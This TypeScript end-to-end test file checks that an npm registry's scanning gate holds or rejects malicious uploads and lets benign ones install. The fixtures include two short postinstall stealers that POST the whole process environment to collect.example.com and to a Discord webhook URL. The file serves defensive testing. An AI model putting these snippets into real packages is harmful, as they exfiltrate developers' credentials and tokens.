// The gate seen through the real npm client: malicious uploads are accepted but never installable; benign ones install.
import { execFile } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startListeningRegistry, type ListeningRegistry } from '../helpers/server.ts'

/** Synthetic install-time stealers. They only ever target reserved example hosts, and installs use --ignore-scripts. */
const STEAL_TO_HOST = `const https = require('https')
const req = https.request({ hostname: 'collect.example.com', path: '/e', method: 'POST' })
req.write(JSON.stringify(process.env))
req.end()
`
const STEAL_TO_WEBHOOK = `const https = require('https')
const req = https.request('https://discord.com/api/webhooks/123456/abcdef', { method: 'POST' })
req.write(JSON.stringify(process.env))
req.end()
`

interface ScanView {
  state: string
  scans: { verdict: string; signals: { rule: string; weight: number; file?: string }[] }[]
}

describe('the gate with the real npm client (sqlite)', () => {
  let r: ListeningRegistry
  let root: string
  let publisherRc: string
  let publisher: string
  let stranger: string
  let projects = 0
  /** What `npm publish` said for each first upload (benign, stealer, webhook stealer, takeover 1.0.0). */
  let uploads: { code: number; out: string }[]

  beforeAll(async () => {
    r = await startListeningRegistry('sqlite')
    publisher = await r.user('alice')
    stranger = await r.user('mallory')
    root = mkdtempSync(join(tmpdir(), 'gatehouse-e2e-gate-'))
    mkdirSync(join(root, 'home'))
    writeFileSync(join(root, 'global-npmrc'), '')
    publisherRc = join(root, 'npmrc')
    writeFileSync(publisherRc, `registry=${r.url}\n${r.url.replace(/^http:/, '')}:_authToken=${publisher}\n`)
    uploads = await Promise.all([
      npm(['publish'], fixture('benign', 'gate-e2e-benign', '1.0.0', { 'lib.js': 'module.exports = (a, b) => a + b\n' })),
      npm(['publish', '--ignore-scripts'], fixture('stealer', 'gate-e2e-stealer', '1.0.0', { 'setup.js': STEAL_TO_HOST }, { postinstall: 'node setup.js' })),
      npm(['publish', '--ignore-scripts'], fixture('webhook', 'gate-e2e-webhook', '1.0.0', { 'setup.js': STEAL_TO_WEBHOOK }, { postinstall: 'node setup.js' })),
      npm(['publish'], fixture('takeover-1', 'gate-e2e-takeover', '1.0.0', {})),
    ])
    await r.settle()
  }, 240_000)

  afterAll(async () => {
    await r?.close()
    if (root) rmSync(root, { recursive: true, force: true })
  })

  function npm(args: string[], cwd: string): Promise<{ code: number; out: string }> {
    const env: NodeJS.ProcessEnv = {}
    for (const [k, v] of Object.entries(process.env)) if (!/^npm_/i.test(k) && k !== 'NODE_OPTIONS' && !k.startsWith('VITEST')) env[k] = v
    Object.assign(env, { HOME: join(root, 'home'), npm_config_audit: 'false', npm_config_fund: 'false', npm_config_update_notifier: 'false', NO_COLOR: '1' })
    const full = [...args, '--userconfig', publisherRc, '--globalconfig', join(root, 'global-npmrc'), '--cache', join(root, 'cache'), '--registry', r.url]
    return new Promise((resolve) => {
      execFile('npm', full, { cwd, env, timeout: 90_000 }, (err, stdout, stderr) => {
        resolve({ code: err ? ((err as { code?: number }).code ?? 1) : 0, out: `${stdout}${stderr}` })
      })
    })
  }

  function fixture(dir: string, name: string, version: string, files: Record<string, string>, scripts: Record<string, string> = {}): string {
    const path = join(root, dir)
    mkdirSync(path, { recursive: true })
    writeFileSync(join(path, 'package.json'), JSON.stringify({ name, version, main: 'index.js', license: 'MIT', scripts }))
    writeFileSync(join(path, 'index.js'), `module.exports = ${JSON.stringify(`${name}@${version}`)}\n`)
    for (const [file, content] of Object.entries(files)) writeFileSync(join(path, file), content)
    return path
  }

  /** A fresh project for each install, so one failure cannot mask or cause another. */
  function project(): string {
    const dir = join(root, `project-${++projects}`)
    mkdirSync(dir)
    writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: `project-${projects}`, version: '1.0.0', private: true }))
    return dir
  }

  async function scan(name: string, version: string, token = publisher): Promise<{ status: number; body: ScanView }> {
    const res = await fetch(`${r.url}-/api/v1/scans?ecosystem=npm&name=${name}&version=${version}`, { headers: { authorization: `Bearer ${token}` } })
    return { status: res.status, body: (await res.json()) as ScanView }
  }

  const weighted = (view: ScanView) => view.scans[0]!.signals.filter((s) => s.weight > 0).map((s) => s.rule).sort()

  it('accepts every upload, then publishes the benign one and holds or rejects the stealers', async () => {
    // npm reports success only on 201 Created: the gate judges after the upload
    for (const p of uploads) expect(p.code, p.out).toBe(0)
    expect(uploads.map((p) => /\+ (gate-e2e-[a-z]+)@1\.0\.0/.exec(p.out)?.[1])).toEqual(['gate-e2e-benign', 'gate-e2e-stealer', 'gate-e2e-webhook', 'gate-e2e-takeover'])

    expect((await scan('gate-e2e-benign', '1.0.0')).body).toMatchObject({ state: 'published', scans: [{ verdict: 'publish' }] })
    const held = (await scan('gate-e2e-stealer', '1.0.0')).body
    expect(held).toMatchObject({ state: 'held', scans: [{ verdict: 'hold' }] })
    expect(weighted(held)).toEqual(['exfiltrates-environment', 'install-time-network'])
    expect(held.scans[0]!.signals.find((s) => s.rule === 'exfiltrates-environment')?.file).toBe('setup.js')
    const rejected = (await scan('gate-e2e-webhook', '1.0.0')).body
    expect(rejected).toMatchObject({ state: 'rejected', scans: [{ verdict: 'reject' }] })
    expect(weighted(rejected)).toEqual(['exfiltrates-environment', 'exfiltration-endpoint', 'install-time-network'])
  })

  it('installs the benign package in a fresh project', async () => {
    const dir = project()
    const res = await npm(['install', 'gate-e2e-benign'], dir)
    expect(res.code, res.out).toBe(0)
    expect(existsSync(join(dir, 'node_modules', 'gate-e2e-benign', 'lib.js'))).toBe(true)
  }, 120_000)

  it.each(['gate-e2e-stealer', 'gate-e2e-webhook'])('cannot install %s: the registry does not know it', async (name) => {
    const dir = project()
    const res = await npm(['install', name, '--ignore-scripts'], dir)
    expect(res.code).not.toBe(0)
    expect(res.out).toMatch(/code E404/)
    expect(existsSync(join(dir, 'node_modules', name))).toBe(false)
  }, 120_000)

  it('holds a malicious new version: installing it fails with ETARGET and the old version still installs', async () => {
    const upload = await npm(['publish', '--ignore-scripts'], fixture('takeover-2', 'gate-e2e-takeover', '1.0.1', { 'setup.js': STEAL_TO_HOST }, { postinstall: 'node setup.js' }))
    expect(upload.code, upload.out).toBe(0)
    await r.settle()
    expect((await scan('gate-e2e-takeover', '1.0.1')).body.state).toBe('held')

    const pinned = project()
    const bad = await npm(['install', 'gate-e2e-takeover@1.0.1', '--ignore-scripts'], pinned)
    expect(bad.code).not.toBe(0)
    expect(bad.out).toMatch(/code ETARGET/)
    expect(existsSync(join(pinned, 'node_modules', 'gate-e2e-takeover'))).toBe(false)

    const latest = project()
    const good = await npm(['install', 'gate-e2e-takeover', '--ignore-scripts'], latest)
    expect(good.code, good.out).toBe(0)
    expect(JSON.parse(readFileSync(join(latest, 'node_modules', 'gate-e2e-takeover', 'package.json'), 'utf8')).version).toBe('1.0.0')
  }, 120_000)

  it('shows the scans to the publisher and not to another user', async () => {
    for (const name of ['gate-e2e-benign', 'gate-e2e-stealer', 'gate-e2e-webhook']) {
      const { status, body } = await scan(name, '1.0.0')
      expect(status, name).toBe(200)
      expect(body.scans, name).toHaveLength(1)
    }
    expect((await scan('gate-e2e-stealer', '1.0.0', stranger)).status).toBe(403)
  })
})
